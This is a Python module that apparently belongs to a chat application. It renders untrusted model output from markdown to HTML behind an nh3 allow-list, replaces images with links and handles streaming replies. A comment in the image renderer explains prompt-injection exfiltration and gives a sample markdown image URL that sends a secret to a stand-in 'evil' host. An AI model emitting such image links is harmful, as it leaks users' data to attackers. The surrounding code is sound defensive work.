"""The one renderer of message text: markdown to HTML, then an nh3 allow-list.

Model output is untrusted. Raw HTML in markdown is not rendered (it shows as
text), and whatever the markdown produces passes the allow-list below, so the
same inert HTML reaches the live stream, the history, the admin and exports.
Content is stored verbatim; sanitising happens here, on output.
"""

from __future__ import annotations

import html as html_lib
import re

import nh3
from markdown_it import MarkdownIt
from markdown_it.renderer import RendererHTML
from pygments import highlight
from pygments.formatters import HtmlFormatter
from pygments.lexers import get_lexer_by_name
from pygments.util import ClassNotFound

ALLOWED_TAGS = {
    "p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "strong", "em", "del", "s",
    "blockquote", "ul", "ol", "li", "pre", "code", "span", "div", "a",
    "table", "thead", "tbody", "tr", "th", "td",
}  # fmt: skip
ALLOWED_ATTRIBUTES = {
    "a": {"href", "title"},
    "code": {"class"},
    "span": {"class"},
    "div": {"class"},
    "pre": {"class"},
    "ol": {"start"},
}
URL_SCHEMES = {"http", "https", "mailto"}
LINK_REL = "noopener noreferrer nofollow"

_formatter = HtmlFormatter(nowrap=True)


def _highlight(code: str, lang: str, _attrs: object) -> str:
    try:
        lexer = get_lexer_by_name(lang) if lang else None
    except ClassNotFound:
        lexer = None
    if lexer is None:
        return ""  # markdown-it escapes the code itself
    return highlight(code, lexer, _formatter)


def _render_image(_renderer, tokens, idx, options, env) -> str:
    # Images are the exfiltration channel of prompt injection
    # (![x](https://evil/?q=<secret>) loads by itself); show a link instead,
    # which a person has to choose to follow.
    token = tokens[idx]
    src = html_lib.escape(token.attrGet("src") or "", quote=True)
    alt = html_lib.escape(token.content or "image", quote=True)
    return f'<a href="{src}">[image: {alt}]</a>'


# A fence's language as a label: one word of the characters language names use.
_LANGUAGE = re.compile(r"[A-Za-z0-9_+#.-]{1,32}")


def code_language(info: str) -> str:
    """The language of a code fence's info string (```python title="x" -> python), or ""."""
    word = info.strip().split(maxsplit=1)[0] if info.strip() else ""
    return word if _LANGUAGE.fullmatch(word) else ""


def _render_fence(renderer, tokens, idx, options, env) -> str:
    # The language label is made here, on the server, escaped, and then passes
    # the allow-list like everything else: the browser only shows it.
    block = RendererHTML.fence(renderer, tokens, idx, options, env)
    language = code_language(tokens[idx].info)
    if not language:
        return block
    label = html_lib.escape(language)
    return f'<div class="code-block"><div class="code-block__lang">{label}</div>{block}</div>\n'


_md = MarkdownIt("commonmark", {"html": False, "linkify": False, "highlight": _highlight})
_md.enable(["table", "strikethrough"])
_md.add_render_rule("image", _render_image)  # bound to the renderer: it gets `self` first
_md.add_render_rule("fence", _render_fence)


def sanitize(html: str) -> str:
    """The single allow-list every piece of HTML derived from message text passes."""
    return nh3.clean(
        html,
        tags=ALLOWED_TAGS,
        attributes=ALLOWED_ATTRIBUTES,
        url_schemes=URL_SCHEMES,
        link_rel=LINK_REL,
        strip_comments=True,
    )


def render_markdown(text: str) -> str:
    """Markdown text (untrusted) to sanitised HTML."""
    if not text:
        return ""
    return sanitize(_md.render(text))


def stable_prefix_length(text: str) -> int:
    """Length of the leading part of a streaming reply whose markdown blocks are
    finished: everything up to the last blank line outside a code fence.

    Blocks before that point render the same whatever follows (apart from
    reference links, which the final render fixes), so the live view renders
    them once each and shows only the unfinished tail as plain text.
    """
    in_fence = False
    fence = ""
    stable = 0
    position = 0
    for line in text.splitlines(keepends=True):
        position += len(line)
        if not line.endswith("\n"):
            break  # an unfinished last line is never stable
        stripped = line.strip()
        if in_fence:
            if stripped.startswith(fence) and stripped.strip(fence[0]) == "":
                in_fence = False
                stable = position
            continue
        if stripped.startswith(("```", "~~~")):
            in_fence = True
            fence = stripped[:3]
            continue
        if stripped == "":
            stable = position
    return stable


class StableBlocks:
    """`stable_prefix_length` for a reply that grows piece by piece, in linear time.

    Feed each new piece of text; get back the markdown blocks it finished (the
    text up to the new stable point, "" when there is none). Every line is
    classified once, when its newline arrives, so a 2,000-line code block costs
    no more per line than a 20-line one (calling `stable_prefix_length` on the
    growing unfinished tail rescans the whole fence at every flush: O(n^2)).

    The same result as that function, applied to the tail after each piece:
    lines end at "\\n" ("\\r\\n" included); a line ended by another separator
    ("\\r" alone, U+2028, ...) stops the scan for good there, as it does there.
    """

    __slots__ = ("_blocked", "_fence", "_in_fence", "_lines", "_pending", "_stable_lines", "lines_scanned")

    def __init__(self) -> None:
        self._lines: list[str] = []  # whole lines classified, after the last stable point
        self._stable_lines = 0  # how many of them are finished (up to the latest stable point)
        self._pending = ""  # text after the last newline: its lines are not classified yet
        self._in_fence = False
        self._fence = ""
        self._blocked = False
        #: Lines classified so far (what the tests count instead of timing).
        self.lines_scanned = 0

    def feed(self, text: str) -> str:
        """Add `text`; return the blocks it finished (possibly several), or ""."""
        if self._blocked or "\n" not in text:
            self._pending += text
            return ""
        pending = self._pending + text
        cut = pending.rfind("\n") + 1
        chunk, self._pending = pending[:cut], pending[cut:]
        position = 0
        for line in chunk.splitlines(keepends=True):
            if not line.endswith("\n"):
                # As stable_prefix_length: a line it does not see ended stops the scan for good.
                self._blocked = True
                self._pending = chunk[position:] + self._pending
                break
            position += len(line)
            self.lines_scanned += 1
            self._lines.append(line)
            stripped = line.strip()
            if self._in_fence:
                if stripped.startswith(self._fence) and stripped.strip(self._fence[0]) == "":
                    self._in_fence = False
                    self._stable_lines = len(self._lines)
                continue
            if stripped.startswith(("```", "~~~")):
                self._in_fence = True
                self._fence = stripped[:3]
                continue
            if stripped == "":
                self._stable_lines = len(self._lines)
        if not self._stable_lines:
            return ""
        block = "".join(self._lines[: self._stable_lines])
        del self._lines[: self._stable_lines]
        self._stable_lines = 0
        return block

    @property
    def tail(self) -> str:
        """The text after the last finished block."""
        return "".join(self._lines) + self._pending
